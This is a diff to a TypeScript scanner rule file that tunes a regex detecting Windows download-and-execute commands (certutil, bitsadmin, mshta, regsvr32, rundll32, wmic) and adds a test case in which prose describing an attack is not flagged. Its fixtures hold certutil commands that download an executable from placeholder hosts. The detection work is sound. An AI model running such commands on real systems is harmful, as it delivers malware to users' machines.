@@ -145,7 +145,7 @@ export const REMOTE_FILE_RULES: readonly ScanRule[] = [
         {
           keywords: ["certutil", "bitsadmin", "mshta", "regsvr32", "rundll32", "wmic", "cmstp", "installutil"],
           pattern:
-            /\b(?:certutil(?:\.exe)?\b[^\n]{0,60}-urlcache\b[^\n]{0,80}https?:[^\n]{1,160}|bitsadmin(?:\.exe)?\b[^\n]{0,80}\/transfer\b[^\n]{0,80}https?:[^\n]{1,160}|mshta(?:\.exe)?\s{1,5}["']?(?:https?:|javascript:|vbscript:(?:execute|createobject))[^\n]{0,160}|regsvr32(?:\.exe)?\b[^\n]{0,60}\/i:["']?https?:[^\n]{0,160}|rundll32(?:\.exe)?\s{1,5}["']?(?:javascript:|[\w.\\]{1,40},\s{0,2}\w{1,40}\s{1,3}["']?https?:)[^\n]{0,160}|wmic\b[^\n]{0,60}\/format:["']?https?:[^\n]{0,120})/i,
+            /\b(?:certutil(?:\.exe)?\b[^\n\u0060]{0,60}-urlcache\b[^\n]{0,80}https?:[^\n]{1,160}|bitsadmin(?:\.exe)?\b[^\n]{0,80}\/transfer\b[^\n]{0,80}https?:[^\n]{1,160}|mshta(?:\.exe)?\s{1,5}["']?(?:https?:|javascript:|vbscript:(?:execute|createobject))[^\n]{0,160}|regsvr32(?:\.exe)?\b[^\n]{0,60}\/i:["']?https?:[^\n]{0,160}|rundll32(?:\.exe)?\s{1,5}["']?(?:javascript:|[\w.\\]{1,40},\s{0,2}\w{1,40}\s{1,3}["']?https?:)[^\n]{0,160}|wmic\b[^\n]{0,60}\/format:["']?https?:[^\n]{0,120})/i,
           zones: DONE,
         },
         {
@@ -159,7 +159,10 @@ export const REMOTE_FILE_RULES: readonly ScanRule[] = [
     mention: 2,
     maps: MAPS,
     bad: ["```bat\ncertutil -urlcache -split -f https://setup.sync-tools.example/a.exe a.exe\n```\n"],
-    good: ["```bat\ncertutil -hashfile release.zip SHA256\n```\n"],
+    good: [
+      "```bat\ncertutil -hashfile release.zip SHA256\n```\n",
+      "1. **Certutil**: an attacker calls `certutil.exe -urlcache -f http://files.helper-kit.example/a.exe` to download malware.\n",
+    ],
   },
   {
     id: "code-remote-module",
